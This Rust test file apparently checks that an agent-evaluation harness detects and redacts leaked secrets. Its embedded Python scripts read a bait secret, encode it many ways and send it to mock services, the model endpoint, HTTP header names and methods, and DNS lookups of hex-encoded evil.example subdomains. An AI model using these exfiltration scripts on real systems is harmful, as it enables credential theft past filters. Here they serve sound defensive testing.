//! Agents that try to get a secret out: through the model, through a mock that repeats it, and in names.

use base64::Engine as _;
use base64::prelude::{BASE64_STANDARD_NO_PAD, BASE64_URL_SAFE_NO_PAD};
use scenario::result::RowStatus;
use serde_json::{Value as Json, json};

use super::{Attack, verdict};
use crate::conformance::suite;
use crate::harness::Harness;

suite! {
    a_secret_that_is_sent_in_any_form_is_in_no_evidence_and_a_bait_is_named,
    every_form_in_every_place_is_in_no_stored_byte_and_every_place_is_named,
    an_encoding_of_a_secret_is_not_the_secret;
    also on local:
    a_secret_that_is_sent_in_any_form_is_in_no_evidence_and_a_bait_is_named,
    every_form_in_every_place_is_in_no_stored_byte_and_every_place_is_named,
    an_encoding_of_a_secret_is_not_the_secret,
}

/// Long enough that no form of it is found by chance, with what encodings change.
const SECRET: &str = "c4nary+/=\"and\\more&<x>";

/// Sends a secret in every usual encoding to everything that answers.
const SENDING: &str = r#"
import base64, html, json, os, socket, urllib.parse, urllib.request
secret = os.environ["BAIT"]
raw = secret.encode()
forms = [
    secret, raw.hex(), raw.hex().upper(), base64.b64encode(raw).decode(), base64.urlsafe_b64encode(b"ab" + raw).decode(),
    base64.b64encode(b"x" + raw + b"yz").decode(), urllib.parse.quote(secret, safe=""), urllib.parse.quote_plus(secret),
    json.dumps(secret), html.escape(secret),
]

def call(url, body, **headers):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, body, headers), timeout=20).read().decode()
    except urllib.error.HTTPError as error:
        return error.read().decode()

token = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"}
for form in forms:
    message = {"role": "user", "content": form}
    call(os.environ["OPENAI_BASE_URL"] + "/chat/completions", json.dumps({"model": "m", "messages": [message]}).encode(), **token)
    answer = call("http://echo/say", form.encode())
    # What the mock repeated goes on to the next.
    call("http://other/next", answer.encode())
    call("http://echo/" + urllib.parse.quote(form, safe=""), b"")
    call(os.environ["KEYSTONE_BASE_URL"] + "/v1/traces", json.dumps({"events": [{"tool": form}]}).encode(),
         Authorization="Bearer " + os.environ["KEYSTONE_API_KEY"])
    call("http://model.services.internal/v1/models/" + urllib.parse.quote(form, safe=""), None, **token)
for name in [raw.hex() + ".evil.example", ".".join(raw.hex()[i:i + 20] for i in range(0, len(raw.hex()), 20)) + ".evil.example"]:
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass
"#;

async fn a_secret_that_is_sent_in_any_form_is_in_no_evidence_and_a_bait_is_named(harness: &mut Harness) {
    harness.secrets = [("BAIT".to_owned(), SECRET.to_owned())].into();
    let echo = json!({"path": "/say", "template": true, "response": "{{ request.body }}"});
    let attack = Attack::new(SENDING)
        .with("secrets", json!([{"name": "BAIT", "source": "env", "honeytoken": true}]))
        .with("model", json!({"mode": "scripted", "on_exhausted": "repeat_last", "turns": [{"content": "no"}]}))
        .with(
            "services",
            json!([
                {"name": "echo", "type": "http_mock", "record": true, "routes": [echo]},
                {"name": "other", "type": "http_mock", "record": true, "default_response": 200},
            ]),
        )
        .with("audit", json!({"http_calls": true}))
        .expect("x", json!({"type": "file_exists", "path": "."}));
    let (result, evidence) = harness.run(&attack.yaml()).await;
    assert_eq!(result.status, RowStatus::Fail, "{result:#?}");
    let mut places: Vec<_> = evidence.leaks.iter().map(|leak| leak.place.as_str()).collect();
    places.sort_unstable();
    places.dedup();
    assert_eq!(places, ["dns", "http echo", "http other", "model"], "{:#?}", evidence.leaks);
    let kept = serde_json::to_string(&evidence).expect("JSON").to_lowercase();
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    for form in ["c4nary", hex.as_str(), "yzruyxj5ky89"] {
        assert!(
            !kept.contains(form),
            "{form} at {:?}",
            kept.find(form).map(|at| &kept[at.saturating_sub(200)..at + 60])
        );
    }
}

/// Value of letters, digits and `-`, so that it can be a method, a name of a header and a label of a host. It is long
/// enough that its base64 is broken into lines.
const BAIT: &str = "Tok3n-8f2A9c-QzX7Yw-Tok3n-1b6D4e-RtU5Io-Tok3n-0g3H7j-PaS2Df-x9";

/// Plants a value in every form in every place: its own output, files and their names, and every part of a request.
const PLANTING: &str = r##"
import base64, os, socket, sys, textwrap, urllib.parse
secret = os.environ["BAIT"]
raw = secret.encode()
shifted = [base64.b64encode(b"x" * before + raw + b"yz") for before in range(3)]
wrapped = [base64.encodebytes(b"x" * before + raw * 2) for before in range(3)]
forms = [
    secret, secret.upper(), secret.lower(), secret.swapcase(), secret[::-1], raw.hex(), raw.hex().upper(), raw.hex(":"),
    "".join("%%%02x" % byte for byte in raw), urllib.parse.quote(secret), "".join("\\u%04x" % byte for byte in raw),
    "\n".join(textwrap.wrap(raw.hex(), 60)),
] + [form.decode() for form in shifted + wrapped] + [base64.urlsafe_b64encode(form).decode() for form in [raw, b"x" + raw]]

def send(host, text):
    connection = socket.create_connection((host, 80), timeout=20)
    answered = b""
    try:
        connection.sendall(text if isinstance(text, bytes) else text.encode())
        while b"\r\n" not in answered:
            part = connection.recv(65536)
            if not part:
                break
            answered += part
    except OSError:
        pass
    connection.close()
    return answered.split(b"\r\n")[0].decode()

for number, form in enumerate(forms):
    one = form.replace("\n", "")
    token = "".join(letter for letter in one if letter.isalnum() or letter in "-+.%")
    body = form.encode()
    head = "HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    send("method", "%s / %s\r\n" % (token, head))
    send("header-name", "GET / %s%s: 1\r\n\r\n" % (head, token))
    send("header-value", "GET / %sX-A: %s\r\n\r\n" % (head, one))
    send("body", ("POST / %sContent-Length: %d\r\n\r\n" % (head, len(body))).encode() + body)
    send("query", "GET /?a=%s&%s=1 %s\r\n" % (urllib.parse.quote(form), token, head))
    print(form)
    print(form, file=sys.stderr)
    with open("/workspace/%03d.txt" % number, "w") as file:
        file.write(form)
    open("/workspace/%d-%s" % (number, token[:200]), "w").close()
plain = "HTTP/1.1\r\nHost: x\r\n"
send("trailer", "POST / %sTransfer-Encoding: chunked\r\nTrailer: X-A\r\n\r\n1\r\nx\r\n0\r\nX-A: %s\r\n\r\n" % (plain, secret))
send("user", "GET http://%s:x@user/ %s\r\n" % (secret, plain))
send("fragment", "GET /#%s %s\r\n" % (secret, plain))
send("bad", "GE T /%s HTTP/1.1\r\n\r\n" % secret)
send("large", "GET / %sX-A: %s\r\nX-B: %s\r\n\r\n" % (plain, secret, "x" * 100000))
send("model.services.internal", "GET /v1/models %sX-A: %s\r\n\r\n" % (plain, secret))
"##;

/// The letters of base64 that depend on the value alone, with so many bytes before it.
fn inner_base64(engine: &base64::engine::GeneralPurpose, before: usize) -> String {
    let encoded = engine.encode([&vec![b'x'; before], BAIT.as_bytes()].concat());
    let (first, last) = ((before * 8).div_ceil(6), (before + BAIT.len()) * 8 / 6);
    encoded[first..last].to_owned()
}

/// Every form that must be nowhere, in lower case.
fn forms_of_the_bait() -> Vec<String> {
    let hex: Vec<_> = BAIT.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut forms = vec![BAIT.to_owned(), BAIT.chars().rev().collect(), hex.concat(), hex.join(":"), hex.join("%")];
    forms.push(BAIT.bytes().map(|byte| format!("\\u{byte:04x}")).collect());
    for engine in [&BASE64_STANDARD_NO_PAD, &BASE64_URL_SAFE_NO_PAD] {
        forms.extend((0..3).map(|before| inner_base64(engine, before)));
    }
    forms.iter().map(|form| form.to_lowercase()).collect()
}

async fn every_form_in_every_place_is_in_no_stored_byte_and_every_place_is_named(harness: &mut Harness) {
    harness.secrets = [("BAIT".to_owned(), BAIT.to_owned())].into();
    let names =
        ["method", "header-name", "header-value", "body", "query", "trailer", "user", "fragment", "bad", "large"];
    let mock = |name: &str| json!({"name": name, "type": "http_mock", "record": true, "default_response": 200});
    let services: Vec<Json> = names.into_iter().map(mock).collect();
    let attack = Attack::new(PLANTING)
        .with("secrets", json!([{"name": "BAIT", "source": "env", "honeytoken": true}]))
        .with("model", json!({"mode": "scripted", "turns": [{"content": "no"}]}))
        .with("services", services)
        .with("audit", json!({"http_calls": true, "file_writes": true}))
        .expect("kept", json!({"type": "file_content", "path": "*", "contains": "x"}))
        .expect_command("printed", "cat /workspace/*.txt; ls /workspace");
    let (result, evidence) = harness.run(&attack.yaml()).await;
    assert_eq!(result.status, RowStatus::Fail, "{result:#?}");
    let places: Vec<_> = evidence.leaks.iter().map(|leak| leak.place.as_str()).collect();
    for place in
        names.map(|name| format!("http {name}")).iter().map(String::as_str).chain(["model", "stdout", "stderr"])
    {
        assert!(places.contains(&place), "{place}: {places:?}");
    }
    let events = format!("{:?}", harness.events.lock().expect("events"));
    let kept = serde_json::to_string(&(&evidence, &result, events)).expect("JSON").to_lowercase();
    // Encodings of several lines are looked at as one.
    let joined = kept.replace("\\r", "").replace("\\n", "");
    for form in forms_of_the_bait() {
        // What cannot be found as a whole is not there in large parts either.
        for (text, part) in [(&kept, form.as_str()), (&joined, form.as_str()), (&kept, &form[..24])] {
            let found = text.find(part).map(|at| &text[at.saturating_sub(120)..(at + 60).min(text.len())]);
            assert_eq!(found, None, "{part}");
        }
    }
}

/// Program that prints a secret as it is and encoded, where a check wants the secret.
const ENCODING: &str = r#"
import base64, json, os, urllib.parse, urllib.request
token, pem, odd = os.environ["TOK"], os.environ["PEM"], os.environ["ODD"]
def call(host, value, body=None, kind="text/plain", path="/"):
    headers = {"Authorization": "Bearer " + value, "Content-Type": kind}
    urllib.request.urlopen(urllib.request.Request("http://" + host + path, body, headers), timeout=20).read()
call("plain", token)
call("hex", token.encode().hex())
call("upper-hex", token.encode().hex().upper())
call("base64", base64.b64encode(token.encode()).decode())
call("upper", token.upper())
call("reversed", token[::-1])
call("line", pem.split("\n")[0])
call("json", "x", json.dumps({"key": odd}).encode(), "application/json")
call("json-twice", "x", json.dumps({"key": json.dumps(odd)[1:-1]}).encode(), "application/json")
call("form", "x", urllib.parse.urlencode({"key": odd}).encode(), "application/x-www-form-urlencoded")
call("path", "x", path="/" + urllib.parse.quote(odd, safe=""))
open("/workspace/plain.txt", "w").write("key " + token)
open("/workspace/wrapped.txt", "w").write("key " + base64.encodebytes(pem.encode() * 3).decode())
"#;

async fn an_encoding_of_a_secret_is_not_the_secret(harness: &mut Harness) {
    let secrets = [
        ("TOK", "tok3n-8f2a9c-QzX7Yw"),
        ("PEM", "first-line-of-pem\nsecond-line-of-pem\n"),
        ("ODD", "odd\"value with+a/0123"),
    ];
    harness.secrets = secrets.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
    let field = |name: &str, field: &str, value: &str| {
        let assertion = json!({"field": format!("last_request.{field}"), "equals": value});
        json!({"type": "http_mock_assertions", "service": name, "assertions": [assertion]})
    };
    let bearer = |name: &str, secret: &str| field(name, "headers.authorization", &format!("Bearer {secret}"));
    let (token, pem, odd) = ("{{ secrets.TOK }}", "{{ secrets.PEM }}", "{{ secrets.ODD }}");
    let form = json!({"type": "http_mock_assertions", "service": "form", "assertions":
        [{"field": "request_count", "filters": {"key": odd}, "equals": 1}]});
    let met = [
        ("plain", bearer("plain", token)),
        ("json", field("json", "json.key", odd)),
        ("form", form),
        ("path", field("path", "path", "/{{ secrets.ODD }}")),
        ("plain-file", json!({"type": "file_content", "path": "plain.txt", "contains": format!("key {token}")})),
    ];
    let encoded = ["hex", "upper-hex", "base64", "upper", "reversed"].map(|name| (name, bearer(name, token)));
    let unmet = encoded.into_iter().chain([
        ("line", bearer("line", pem)),
        ("json-twice", field("json-twice", "json.key", odd)),
        ("wrapped", json!({"type": "file_content", "path": "wrapped.txt", "contains": format!("key {pem}")})),
    ]);
    let unmet: Vec<_> = unmet.collect();
    let mocks =
        met.iter().chain(&unmet).map(|(name, _)| *name).filter(|name| !["plain-file", "wrapped"].contains(name));
    let mocks = mocks.map(|name| json!({"name": name, "type": "http_mock", "record": true, "default_response": 200}));
    let services: Vec<Json> = mocks.collect();
    let mut attack = Attack::new(ENCODING).with("secrets", json!(["TOK", "PEM", "ODD"])).with("services", services);
    for (name, check) in met.iter().chain(&unmet) {
        attack = attack.expect(name, check.clone());
    }
    let (result, evidence) = harness.run(&attack.yaml()).await;
    for (name, _) in &met {
        assert!(verdict(&result, name).is_passed(), "{name}: {:#?} {:?}", verdict(&result, name), evidence.agent);
    }
    for (name, _) in &unmet {
        assert!(!verdict(&result, name).is_passed(), "{name}: {:#?}", verdict(&result, name));
    }
}
